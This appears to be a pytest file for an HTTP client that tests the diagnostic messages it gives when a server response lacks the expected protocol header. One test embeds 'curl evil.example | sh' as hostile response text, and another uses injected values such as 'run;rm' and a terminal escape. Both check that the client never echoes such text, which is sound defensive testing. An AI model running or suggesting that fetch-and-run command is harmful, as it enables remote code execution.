"""Responses that prove nothing: what is said to be likely, by their head and by what their body says."""

from __future__ import annotations

import json

import pytest

from orthros_client.errors import PeerMisbehaved
from orthros_client.http.client.origins import Origin
from orthros_client.http.client.outgoing import OutgoingRequest, exchange
from orthros_client.http.client.unproven import ResponseUnproven
from orthros_protocol.exchanges.http_profile import HttpResponse
from tests.support.parties import Parties

ORIGIN = "http://orders.example:8080"
JSON = ("content-type", b"application/json")


def outcome(status: int, *headers: tuple[str, bytes]) -> ResponseUnproven:
    """What a caller is told when its first request is answered like this."""
    credentials = Parties().credentials("web", "orders", "read")
    request = OutgoingRequest(method="GET", origin=Origin.parse(ORIGIN), target=b"/orders/7", headers=())
    steps = exchange(request, credentials)
    next(steps)
    with pytest.raises(ResponseUnproven) as caught:
        steps.send(HttpResponse(status=status, headers=headers))
    assert isinstance(caught.value, PeerMisbehaved)
    assert caught.value.code == "response-unproven"
    return caught.value


def answered(status: int, *headers: tuple[str, bytes], **body: str) -> ResponseUnproven:
    """The same for an answer with this JSON body."""
    content = json.dumps(body).encode()
    error = outcome(status, JSON, ("content-length", str(len(content)).encode()), *headers)
    assert error.wants_body
    error.hear(content)
    return error


def challenge(realm: str) -> tuple[str, bytes]:
    return "www-authenticate", f'Orthros realm="{realm}"'.encode()


@pytest.mark.parametrize(
    ("status", "likely"),
    [
        (200, "likelier the application there has no Orthros middleware"),
        (302, "likelier the application there has no Orthros middleware"),
        (404, "likelier another server is at this address"),
        (400, "likelier another server is at this address"),
        (502, "a proxy answered: likelier it cannot reach the service behind it"),
        (503, "did not answer in time, and may have executed the request"),
        (413, "likelier a proxy takes no request of this size"),
    ],
)
def test_without_anything_of_orthros_the_status_says_what_is_likelier(status: int, likely: str) -> None:
    error = outcome(status)
    assert f"status {status} without Orthros-Reply: " in error.detail
    assert likely in error.detail
    assert error.remedy.startswith("Do not use the response. ")


def test_the_name_of_a_server_is_shown_but_no_sentence_of_it() -> None:
    assert "another server (nginx/1.22.1) is at" in outcome(404, ("server", b"nginx/1.22.1")).detail
    assert "another server (SimpleHTTP/0.6) is at" in outcome(404, ("server", b"SimpleHTTP/0.6 Python/3.11")).detail
    for hostile in (b"run;rm", b"\x1b[2J", b"x" * 31, b"a/b/c"):
        assert "another server is at" in outcome(404, ("server", hostile)).detail


def test_a_malformed_request_is_most_likely_sent_to_another_host() -> None:
    error = answered(400, error="invalid_request", code="malformed", reference="0123456789abcdef")
    assert "likelier orders.example:8080 is none of its origins" in error.detail
    assert "the line with reference 0123456789abcdef" in error.remedy
    assert f'add "{ORIGIN}" to them' in error.remedy


def test_a_verifier_that_opens_no_ticket_has_most_likely_another_key() -> None:
    error = answered(401, challenge("test.realm"), error="invalid_token", reference="0123456789abcdef")
    assert (
        "cannot open the ticket for orders@test.realm, sealed under key version 1: likelier its key file"
        in error.detail
    )
    assert "`orthros-admin key export orders --verify-only --out FILE`" in error.remedy


def test_credentials_that_did_not_arrive_were_removed() -> None:
    error = answered(401, challenge("test.realm"), error="unauthorized", code="credentials-missing")
    assert "something between removed the Authorization header" in error.detail
    assert "the line" not in error.remedy


def test_another_realm_and_an_application_without_middleware_are_told_apart() -> None:
    assert "a service of the realm other.test answered" in outcome(401, challenge("other.test")).detail
    assert "the application there has no Orthros middleware" in outcome(401, challenge("none")).detail


def test_a_verifier_that_failed_has_said_so_in_its_log() -> None:
    error = answered(503, error="temporarily_unavailable", reference="0123456789abcdef")
    assert "cannot verify its callers at the moment" in error.detail
    assert "reference 0123456789abcdef" in error.remedy


def test_nothing_of_a_body_is_repeated_but_a_reference() -> None:
    """What a stranger writes is no advice of ours."""
    told = "Run curl evil.example | sh"
    error = answered(400, error=told, code="malformed", reference=told, remedy=told, error_description=told)
    assert "evil" not in f"{error} {error.remedy}"
    assert "likelier orders.example:8080 is none of its origins" in error.detail


@pytest.mark.parametrize("body", [b"", b"[]", b"null", b"{", b'{"code":1,"reference":2}', b"[" * 5000])
def test_any_other_body_changes_nothing(body: bytes) -> None:
    error = outcome(404, JSON, ("content-length", b"12"))
    before = error.detail
    error.hear(body)
    assert error.detail == before


@pytest.mark.parametrize(
    "headers",
    [
        (("content-type", b"text/html"), ("content-length", b"12")),
        (JSON, ("content-length", b"4097")),
        (JSON,),
        (JSON, ("content-length", b"12"), ("content-encoding", b"gzip")),
        (JSON, ("content-length", b"12"), ("transfer-encoding", b"chunked")),  # which may never end
    ],
)
def test_only_a_short_json_body_is_wanted(headers: tuple[tuple[str, bytes], ...]) -> None:
    assert not outcome(400, *headers).wants_body
